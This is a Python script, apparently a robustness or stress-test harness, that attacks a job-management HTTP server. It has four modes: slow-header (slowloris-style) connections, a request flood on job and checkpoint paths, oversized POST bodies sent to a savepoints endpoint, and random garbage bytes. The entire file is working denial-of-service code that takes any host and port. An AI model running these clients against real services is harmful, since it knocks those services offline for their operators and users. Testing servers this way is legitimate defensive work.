"""Clients that mean harm: python attack.py KIND HOST PORT JOB, until killed.

slow     400 connections that send a byte of a header each second, opened anew when cut off
flood    32 connections that ask for the job and the overview as fast as they are answered
bodies   16 connections that send bodies of 64 KiB as fast as they are taken, and longer ones
garbage  16 connections that send bytes that are no HTTP
"""

import asyncio
import os
import random
import sys


async def slow(host, port, _job):
    while True:
        try:
            reader, writer = await asyncio.open_connection(host, port)
            writer.write(b"GET /jobs HTTP/1.1\r\nHost: localhost\r\nX: ")
            while not reader.at_eof():
                writer.write(b"x")
                await writer.drain()
                await asyncio.sleep(1)
            writer.close()
        except OSError:
            await asyncio.sleep(0.2)


async def flood(host, port, job):
    paths = [f"/jobs/{job}", "/jobs/overview", "/overview", f"/jobs/{job}/checkpoints"]
    while True:
        try:
            reader, writer = await asyncio.open_connection(host, port)
            while True:
                path = random.choice(paths)
                writer.write(f"GET {path} HTTP/1.1\r\nHost: localhost\r\n\r\n".encode())
                head = await reader.readuntil(b"\r\n\r\n")
                length = next(
                    int(line.split(b":")[1])
                    for line in head.split(b"\r\n")
                    if line.lower().startswith(b"content-length")
                )
                await reader.readexactly(length)
        except (OSError, asyncio.IncompleteReadError, StopIteration):
            await asyncio.sleep(0.05)


async def bodies(host, port, job):
    while True:
        try:
            _, writer = await asyncio.open_connection(host, port)
            length = random.choice([60_000, 10_000_000])
            writer.write(
                f"POST /jobs/{job}/savepoints HTTP/1.1\r\nHost: localhost\r\n"
                f"Content-Length: {length}\r\n\r\n".encode()
            )
            piece = b'{"cancel-job":"' + b"a" * 32_000
            for _ in range(0, length, len(piece)):
                writer.write(piece)
                await writer.drain()
            writer.close()
        except OSError:
            pass
        await asyncio.sleep(0.005)


async def garbage(host, port, _job):
    while True:
        try:
            reader, writer = await asyncio.open_connection(host, port)
            writer.write(os.urandom(2_000))
            await reader.read()
            writer.close()
        except OSError:
            pass
        await asyncio.sleep(0.005)


COUNTS = {slow: 400, flood: 32, bodies: 16, garbage: 16}


async def main(kind, host, port, job):
    os.nice(5)  # what the clients compute is not what is measured
    kinds = COUNTS if kind == "all" else [globals()[kind]]
    await asyncio.gather(*(one(host, int(port), job) for one in kinds for _ in range(COUNTS[one])))


if __name__ == "__main__":
    asyncio.run(main(*sys.argv[1:5]))
